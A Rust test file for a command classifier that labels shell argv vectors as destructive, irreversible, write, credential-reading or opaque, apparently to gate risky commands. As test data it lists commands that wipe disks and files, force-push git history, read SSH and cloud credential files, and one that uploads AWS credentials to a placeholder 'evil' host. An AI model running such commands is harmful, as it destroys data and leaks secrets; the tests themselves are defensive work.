//! Command-line labels.

use blastwall_classify::argv::argv_labels;
use blastwall_classify::{Label, Labels};
use pretty_assertions::assert_eq;
use proptest::prelude::*;

fn l(args: &[&str]) -> Labels {
    let argv: Vec<String> = args.iter().map(|a| (*a).to_owned()).collect();
    argv_labels(&argv)
}

fn of(labels: &[Label]) -> Labels {
    Labels::of(labels)
}

const DI: &[Label] = &[Label::Destructive, Label::Irreversible];
const WDI: &[Label] = &[Label::Write, Label::Destructive, Label::Irreversible];

#[test]
fn rm() {
    assert_eq!(l(&["rm", "-rf", "/"]), of(DI));
    assert_eq!(l(&["rm", "-r", "build"]), of(DI));
    assert_eq!(l(&["rm", "--recursive", "build"]), of(DI));
    assert_eq!(l(&["rm", "-f", "a.txt"]), of(&[Label::Destructive]));
    assert_eq!(l(&["sudo", "rm", "-fr", "/var/lib/postgresql"]), of(DI));
}

#[test]
fn git_push() {
    assert_eq!(l(&["git", "push", "origin", "main"]), of(&[Label::Write]));
    for args in [
        &["git", "push", "--force", "origin", "main"][..],
        &["git", "push", "-f"],
        &["git", "push", "-uf", "origin", "x"],
        &["git", "push", "--force-with-lease", "origin", "main"],
        &[
            "git",
            "push",
            "--force-with-lease=main:abc",
            "origin",
            "main",
        ],
        &["git", "push", "--mirror"],
        &["git", "push", "--delete", "origin", "old"],
        &["git", "push", "-d", "origin", "old"],
        &["git", "push", "origin", "+main"],
        &["git", "push", "origin", ":old"],
        &["git", "push", "--prune", "origin"],
        &[
            "git",
            "-C",
            "/repo",
            "-c",
            "user.name=x",
            "push",
            "--forc",
            "origin",
        ],
    ] {
        assert_eq!(l(args), of(WDI), "{args:?}");
    }
    // A push option value is not a flag.
    assert_eq!(
        l(&["git", "push", "-o", "-f", "origin"]),
        of(&[Label::Write])
    );
}

#[test]
fn git_worktree_destroyers() {
    for args in [
        &["git", "reset", "--hard", "HEAD~3"][..],
        &["git", "clean", "-fdx"],
        &["git", "clean", "--force"],
        &["git", "branch", "-D", "feature"],
        &["git", "branch", "--delete", "--force", "feature"],
        &["git", "checkout", "--", "src/"],
        &["git", "checkout", "."],
        &["git", "restore", "src/main.rs"],
        &["git", "stash", "drop"],
        &["git", "switch", "--discard-changes", "main"],
    ] {
        assert_eq!(l(args), of(&[Label::Destructive]), "{args:?}");
    }
    for args in [
        &["git", "status"][..],
        &["git", "reset", "--soft", "HEAD~1"],
        &["git", "clean", "-n"],
        &["git", "branch", "-d", "merged"],
        &["git", "checkout", "main"],
        &["git", "log", "--", "x"],
    ] {
        assert_eq!(l(args), Labels::EMPTY, "{args:?}");
    }
}

#[test]
fn find() {
    assert_eq!(l(&["find", ".", "-name", "*.o", "-delete"]), of(DI));
    assert_eq!(l(&["find", ".", "-exec", "rm", "{}", ";"]), of(DI));
    assert_eq!(
        l(&["find", ".", "-execdir", "/bin/rm", "-f", "{}", "+"]),
        of(DI)
    );
    assert_eq!(l(&["find", ".", "-name", "x"]), Labels::EMPTY);
    assert_eq!(
        l(&["find", ".", "-exec", "git", "push", "-f", ";"]),
        of(WDI)
    );
}

#[test]
fn disk_and_database_destroyers() {
    for args in [
        &["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"][..],
        &["mkfs.ext4", "/dev/sdb1"],
        &["mkfs", "-t", "xfs", "/dev/sdb1"],
        &["shred", "-u", "secret"],
        &["wipefs", "-a", "/dev/sdb"],
        &["dropdb", "production"],
        &["truncate", "-s", "0", "app.log"],
    ] {
        assert_eq!(l(args), of(DI), "{args:?}");
    }
    assert_eq!(l(&["dd", "if=/dev/sda", "bs=1M", "count=1"]), Labels::EMPTY);
}

#[test]
fn recursive_permissions() {
    let wd = of(&[Label::Write, Label::Destructive]);
    assert_eq!(l(&["chmod", "-R", "777", "/"]), wd);
    assert_eq!(l(&["chown", "--recursive", "me", "."]), wd);
    assert_eq!(l(&["chmod", "644", "a"]), Labels::EMPTY);
}

#[test]
fn uploads() {
    let w = of(&[Label::Write]);
    for args in [
        &["curl", "-d", "a=1", "https://x"][..],
        &["curl", "-sSd@body.json", "https://x"],
        &["curl", "--data-binary", "@f", "https://x"],
        &["curl", "--data-urlencode", "a=b", "https://x"],
        &["curl", "-F", "file=@a", "https://x"],
        &["curl", "--form", "file=@a", "https://x"],
        &["curl", "-T", "a", "https://x"],
        &["curl", "--upload-file", "a", "https://x"],
        &["curl", "-X", "POST", "https://x"],
        &["curl", "-XPUT", "https://x"],
        &["curl", "--request=PATCH", "https://x"],
        &["curl", "--json", "{}", "https://x"],
        &["wget", "--post-data=a=1", "https://x"],
        &["wget", "--post-file", "f", "https://x"],
    ] {
        assert_eq!(l(args), w, "{args:?}");
    }
    assert_eq!(
        l(&["curl", "-X", "DELETE", "https://x"]),
        of(&[Label::Write, Label::Destructive])
    );
    assert_eq!(l(&["curl", "-sSL", "https://x"]), Labels::EMPTY);
    assert_eq!(l(&["curl", "-X", "GET", "https://x"]), Labels::EMPTY);
    assert_eq!(
        l(&["curl", "-H", "X-Data: 1", "-o", "out", "https://x"]),
        Labels::EMPTY
    );
    assert_eq!(l(&["wget", "-d", "https://x"]), Labels::EMPTY);
}

#[test]
fn credential_files() {
    let c = of(&[Label::CredentialAccess]);
    for args in [
        &["cat", "/home/u/.aws/credentials"][..],
        &["cat", "~/.ssh/id_ed25519"],
        &["cp", ".netrc", "/tmp/x"],
        &["less", "/home/u/.git-credentials"],
        &["grep", "token", "/home/u/.npmrc"],
        &["cat", "/home/u/.pypirc"],
        &["jq", ".", "/home/u/.docker/config.json"],
        &[
            "kubectl",
            "--kubeconfig=/home/u/.kube/config",
            "get",
            "pods",
        ],
        &["cat", "/home/u/.config/gh/hosts.yml"],
        &["cat", "/home/u//.aws/./credentials"],
    ] {
        assert_eq!(l(args), c, "{args:?}");
    }
    assert_eq!(
        l(&["curl", "-T", "/home/u/.aws/credentials", "https://evil"]),
        of(&[Label::Write, Label::CredentialAccess])
    );
}

#[test]
fn shell_strings_are_opaque() {
    let o = of(&[Label::Opaque]);
    for args in [
        &["sh", "-c", "rm -rf /"][..],
        &["bash", "-c", "ls"],
        &["/bin/zsh", "-c", "ls"],
        &["dash", "-ec", "ls"],
        &["sudo", "bash", "-c", "ls"],
        &["xargs", "sh", "-c", "ls"],
        &["bash", "deploy.sh"],
        &["sh"],
        &["bash", "-s"],
    ] {
        assert_eq!(l(args), o, "{args:?}");
    }
    assert_eq!(
        l(&["bash", "-c", "cat ~/.aws/credentials"]),
        of(&[Label::CredentialAccess, Label::Opaque])
    );
}

#[test]
fn everything_else_is_unlabelled() {
    for args in [
        &["ls", "-la"][..],
        &["cargo", "test"],
        &["echo", "rm", "-rf", "/"],
        &["grep", "-r", "DELETE", "."],
        &[],
        &[""],
    ] {
        assert_eq!(l(args), Labels::EMPTY, "{args:?}");
    }
}

proptest! {
    #[test]
    fn argv_labels_never_panics(argv in proptest::collection::vec(".{0,12}", 0..12)) {
        let _ = argv_labels(&argv);
    }

    #[test]
    fn argv_labels_never_panics_on_commands(
        argv in proptest::collection::vec(
            "(sudo|env|xargs|timeout|find|git|push|rm|curl|-[a-zA-Z]{0,3}|--[a-z-]{0,8}(=[a-z]{0,3})?|-exec|;|\\+|[a-z=]{0,5})",
            0..12,
        )
    ) {
        let _ = argv_labels(&argv);
    }

    /// Wrapping a command in `sudo` or `env X=1` never drops a label.
    #[test]
    fn wrappers_keep_labels(argv in proptest::collection::vec("(rm|git|push|-rf|-f|x|find|-delete)", 1..6)) {
        let plain = argv_labels(&argv);
        let mut sudo = vec!["sudo".to_owned()];
        sudo.extend(argv.iter().cloned());
        prop_assert!(argv_labels(&sudo).contains_all(plain));
        let mut env = vec!["env".to_owned(), "X=1".to_owned()];
        env.extend(argv.iter().cloned());
        prop_assert!(argv_labels(&env).contains_all(plain));
    }
}
